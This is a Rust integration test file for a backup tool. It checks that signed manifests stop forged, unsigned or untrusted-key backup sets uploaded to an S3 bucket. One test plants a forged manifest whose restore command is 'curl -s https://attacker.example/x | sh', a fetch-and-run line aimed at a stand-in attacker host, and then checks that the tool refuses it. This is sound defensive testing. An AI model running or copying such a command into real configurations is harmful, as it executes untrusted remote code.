//! Signed sets in the bucket: `push` copies `MANIFEST.json.minisig`, and
//! `pull` and `verify` check it with the reader's trusted keys before
//! anything in the remote manifest is believed. Credentials stolen from
//! the server can change every object; they cannot sign.

use std::fs;
use std::path::Path;

use opskit_testkit::tools::{Output, run};
use opskit_testkit::{bin, cluster};

mod common;
use common::*;

/// A refused pull or verify: exit 1, one line on stderr naming the set
/// and what was wrong.
fn refused(out: &Output, set: &str, why: &str) {
    assert_eq!(
        out.code, 1,
        "stdout:\n{}\nstderr:\n{}",
        out.stdout, out.stderr
    );
    let lines: Vec<&str> = out.stderr.lines().collect();
    assert_eq!(lines.len(), 1, "not one line:\n{}", out.stderr);
    assert!(
        lines[0].contains(set) && lines[0].contains(why),
        "{set} / {why}: {}",
        lines[0]
    );
}

/// An empty backup root of its own.
fn empty_root(local: &Local, name: &str) -> std::path::PathBuf {
    let dest = local.tmp.path().join(name);
    fs::create_dir(&dest).unwrap();
    dest
}

/// Upload `bytes` as the remote set's `file`, as rclone (someone with the
/// bucket's keys) would.
fn replace_remote(local: &Local, bucket: &str, set: &str, file: &str, bytes: &[u8]) {
    let tmp = local.tmp.path().join(format!("forged-{file}"));
    fs::write(&tmp, bytes).unwrap();
    let key = format!("s3:{bucket}/app/{set}/{file}");
    ok(&rclone(&["copyto", tmp.to_str().unwrap(), &key]));
}

fn verify_backup(dir: &Path, local: &Local) -> Output {
    run(opskit_testkit::signing::command(bin("verify-backup"))
        .arg(dir)
        .arg("--identity")
        .arg(&local.key.identity)
        .arg("--pg-bindir")
        .arg(cluster().bindir()))
}

#[test]
fn a_manifest_changed_in_the_bucket_is_refused_by_pull_and_verify() {
    let local = Local::new(0);
    let set = local.set(false);
    let name = name_of(&set);
    let bucket = server().bucket("forged");
    let url = format!("s3://{bucket}/app");
    ok(&run(&mut offsite(&["push", &url, set.to_str().unwrap()])));
    assert!(
        remote_files(&bucket, &name).contains(&"MANIFEST.json.minisig".to_string()),
        "{:?}",
        remote_files(&bucket, &name)
    );
    // Untouched: it pulls, and the pulled set passes verify-backup.
    let clean = empty_root(&local, "clean");
    ok(&run(
        offsite(&["pull", "latest", "--url", &url, "--dest"]).arg(&clean)
    ));
    assert_eq!(files_of(&clean.join(&name)), files_of(&set));
    let v = verify_backup(&clean.join(&name), &local);
    assert_eq!(v.code, 0, "{}", v.stdout);
    ok(&run(&mut offsite(&["verify", "--url", &url])));

    // The manifest replaced with one whose restore command is the
    // attacker's, and SHA256SUMS made to agree with it.
    let text = fs::read(set.join("MANIFEST.json")).unwrap();
    let mut m: serde_json::Value = serde_json::from_slice(&text).unwrap();
    m["database"]["restore_command"] = "curl -s https://attacker.example/x | sh".into();
    let forged = serde_json::to_string_pretty(&m).unwrap() + "\n";
    let sums = fs::read_to_string(set.join("SHA256SUMS")).unwrap();
    let sums = sums.replace(
        &opskit::gz::sha256_hex(&text),
        &opskit::gz::sha256_hex(forged.as_bytes()),
    );
    replace_remote(&local, &bucket, &name, "SHA256SUMS", sums.as_bytes());
    replace_remote(&local, &bucket, &name, "MANIFEST.json", forged.as_bytes());

    let dest = empty_root(&local, "dest");
    let pull = run(offsite(&["pull", "latest", "--url", &url, "--dest"]).arg(&dest));
    refused(&pull, &name, "bad signature");
    assert_empty(&dest);
    let v = run(&mut offsite(&["verify", "--url", &url]));
    assert_eq!(v.code, 1, "{}", v.stdout);
    let problems = v.events("remote_verify")[0]["problems"].to_string();
    assert!(problems.contains("bad signature"), "{problems}");
}

#[test]
fn a_set_signed_by_another_key_is_refused() {
    let local = Local::new(0);
    let set = local.set(false);
    let name = name_of(&set);
    let bucket = server().bucket("otherkey");
    let url = format!("s3://{bucket}/app");
    ok(&run(&mut offsite(&["push", &url, set.to_str().unwrap()])));
    // The same manifest, signed by a key the reader does not trust.
    let attacker = opskit_testkit::signing::Keys::new(local.tmp.path(), "attacker");
    let sig = local.tmp.path().join("attacker.minisig");
    sign_with(&attacker, &set.join("MANIFEST.json"), &name, &sig);
    let sig = fs::read(&sig).unwrap();
    replace_remote(&local, &bucket, &name, "MANIFEST.json.minisig", &sig);

    let dest = empty_root(&local, "dest");
    let pull = run(offsite(&["pull", &name, "--url", &url, "--dest"]).arg(&dest));
    refused(&pull, &name, "not a trusted key");
    assert_empty(&dest);
    let v = run(&mut offsite(&["verify", "--url", &url]));
    assert_eq!(v.code, 1, "{}", v.stdout);
    let problems = v.events("remote_verify")[0]["problems"].to_string();
    assert!(problems.contains("not a trusted key"), "{problems}");
}

#[test]
fn an_unsigned_set_is_pushed_with_a_warning_and_pulled_only_when_allowed() {
    let local = Local::new(0);
    let set = local.set(false);
    let name = name_of(&set);
    fs::remove_file(set.join("MANIFEST.json.minisig")).unwrap();
    let bucket = server().bucket("unsigned");
    let url = format!("s3://{bucket}/app");
    let push = run(&mut offsite(&["push", &url, set.to_str().unwrap()]));
    ok(&push);
    assert!(push.stderr.contains("not signed"), "{}", push.stderr);

    let dest = empty_root(&local, "dest");
    let pull = run(offsite(&["pull", "latest", "--url", &url, "--dest"]).arg(&dest));
    refused(&pull, &name, "not signed");
    assert_empty(&dest);
    let v = run(&mut offsite(&["verify", "--url", &url]));
    assert_eq!(v.code, 1, "{}", v.stdout);
    assert!(
        v.events("remote_verify")[0]["problems"]
            .to_string()
            .contains("not signed")
    );
    ok(&run(&mut offsite(&[
        "verify",
        "--allow-unsigned",
        "--url",
        &url,
    ])));
    let pull = run(offsite(&[
        "pull",
        "latest",
        "--allow-unsigned",
        "--url",
        &url,
        "--dest",
    ])
    .arg(&dest));
    ok(&pull);
    assert!(pull.stderr.contains("not signed"), "{}", pull.stderr);
    assert_eq!(files_of(&dest.join(&name)), files_of(&set));

    // No key and no --allow-unsigned: a usage error that says what to set.
    let x = local.tmp.path().join("x");
    let pull: &[&str] = &[
        "pull",
        "latest",
        "--url",
        &url,
        "--dest",
        x.to_str().unwrap(),
    ];
    let verify: &[&str] = &["verify", "--url", &url];
    for args in [pull, verify] {
        let out = run(offsite(args).env_remove("OPSKIT_SIGNING_PUBKEYS"));
        let sub = args[0];
        assert_eq!(out.code, 64, "{sub}: {}", out.stderr);
        assert!(
            out.stderr
                .contains("no public key to check signatures with"),
            "{sub}: {}",
            out.stderr
        );
    }
}

/// The action a prune run gave set `name`.
fn action_of(pr: &Output, name: &str) -> String {
    pr.events("prune")
        .iter()
        .find(|r| r["name"] == name)
        .unwrap_or_else(|| panic!("no record of {name}: {}", pr.stdout))["action"]
        .as_str()
        .unwrap()
        .to_string()
}

/// Someone with the bucket's keys uploads manifests of sets nobody made:
/// two named as if made in 2099, one a copy of the newest real set's
/// manifest and signature under a later name. They are no restore points:
/// prune keeps them as corrupt without letting them fill a slot (they took
/// the slots, and the real sets were deleted), `pull latest` passes them
/// over with a warning (it stopped on the newest), and healthcheck counts
/// the sets dated ahead apart and warns (the 2099 one was the newest, 0 s
/// old, for ever).
#[test]
fn sets_forged_in_the_bucket_take_no_real_sets_place() {
    let local = Local::new(0);
    let sets: Vec<_> = (0..3).map(|_| local.set(false)).collect();
    let bucket = server().bucket("forgedsets");
    let url = format!("s3://{bucket}/app");
    for s in &sets {
        ok(&run(&mut offsite(&["push", &url, s.to_str().unwrap()])));
    }
    let newest = name_of(&sets[2]);
    let (series, t) = opskit::backupset::parse_set_dir_name(&newest).unwrap();
    let manifest = fs::read(sets[2].join("MANIFEST.json")).unwrap();
    let signature = fs::read(sets[2].join("MANIFEST.json.minisig")).unwrap();
    let later = opskit::backupset::set_dir_name(series, t + chrono::Duration::minutes(5));
    // And one whose signature is larger than any (a manifest or signature
    // that cannot be downloaded stopped the prune and the pull).
    let big = opskit::backupset::set_dir_name(series, t + chrono::Duration::minutes(2));
    let fakes = [
        format!("{series}-20991231T000000Z"),
        format!("{series}-20990101T000000Z"),
        later.clone(),
        big.clone(),
    ];
    for fake in &fakes {
        replace_remote(&local, &bucket, fake, "MANIFEST.json", &manifest);
    }
    replace_remote(&local, &bucket, &later, "MANIFEST.json.minisig", &signature);
    replace_remote(
        &local,
        &bucket,
        &big,
        "MANIFEST.json.minisig",
        &vec![b'x'; 70 << 10],
    );

    let pr = run(offsite(&["prune", "--url", &url, "--keep-last", "2", "--root"]).arg(&local.root));
    let recs = pr.events("prune");
    let action = |n: &str| action_of(&pr, n);
    for fake in &fakes {
        assert_eq!(action(fake), "corrupt", "{fake}: {}", pr.stdout);
    }
    assert_eq!(action(&name_of(&sets[2])), "keep", "{}", pr.stdout);
    assert_eq!(action(&name_of(&sets[1])), "keep", "{}", pr.stdout);
    assert_eq!(action(&name_of(&sets[0])), "delete", "{}", pr.stdout);
    let detail = |n: &str| recs.iter().find(|r| r["name"] == n).unwrap()["detail"].to_string();
    assert!(
        detail(&fakes[0]).contains("not signed"),
        "{}",
        detail(&fakes[0])
    );
    assert!(detail(&later).contains(&later), "{}", detail(&later));
    assert!(detail(&big).contains("larger than"), "{}", detail(&big));
    assert!(remote_files(&bucket, &name_of(&sets[1])).contains(&"MANIFEST.json".to_string()));

    // The newest real set is pulled; each forged one is named as passed over.
    let dest = empty_root(&local, "dest");
    let pull = run(offsite(&["pull", "latest", "--url", &url, "--dest"]).arg(&dest));
    ok(&pull);
    assert_eq!(files_of(&dest.join(&newest)), files_of(&sets[2]));
    for fake in &fakes {
        assert!(
            pull.stderr.contains(fake.as_str()),
            "{fake}: {}",
            pull.stderr
        );
    }
    // Nothing but forged sets of a series: refused, naming the newest's fault.
    let pull = run(offsite(&[
        "pull", "latest", "--url", &url, "--series", "nosuch", "--dest",
    ])
    .arg(&dest));
    assert_eq!(pull.code, 2, "{}", pull.stderr);
    replace_remote(
        &local,
        &bucket,
        "nosuch-20990101T000000Z",
        "MANIFEST.json",
        &manifest,
    );
    let pull = run(offsite(&[
        "pull", "latest", "--url", &url, "--series", "nosuch", "--dest",
    ])
    .arg(&dest));
    refused(&pull, "nosuch-20990101T000000Z", "passed its checks");

    let mut h = std::process::Command::new(bin("healthcheck"));
    server().configure(&mut h);
    let out = run(h.arg(format!("offsite:{url}")));
    assert_eq!(out.code, 1, "{}", out.stdout);
    let v = &out.events("check")[0]["values"];
    // Without reading signatures every minute, a name within a day of now
    // cannot be told from a real set's: `verified` (offsite verify's
    // verdicts) is what proves the copies fresh.
    assert_eq!(v["newest"], later.as_str(), "{v}");
    assert_eq!(v["dated_ahead"], 3, "{v}");

    // --delete-corrupt removes them, but for the newest of its series not
    // dated ahead (a set dated 2099 was "the newest" and stayed for ever).
    let pr = run(offsite(&[
        "prune",
        "--url",
        &url,
        "--keep-last",
        "2",
        "--delete-corrupt",
        "--root",
    ])
    .arg(&local.root));
    let action = |n: &str| action_of(&pr, n);
    for gone in [
        &fakes[0],
        &fakes[1],
        &big,
        &"nosuch-20990101T000000Z".to_string(),
    ] {
        assert_eq!(action(gone), "delete", "{gone}: {}", pr.stdout);
    }
    assert_eq!(action(&later), "corrupt", "{}", pr.stdout);
    assert_eq!(action(&newest), "keep", "{}", pr.stdout);
}
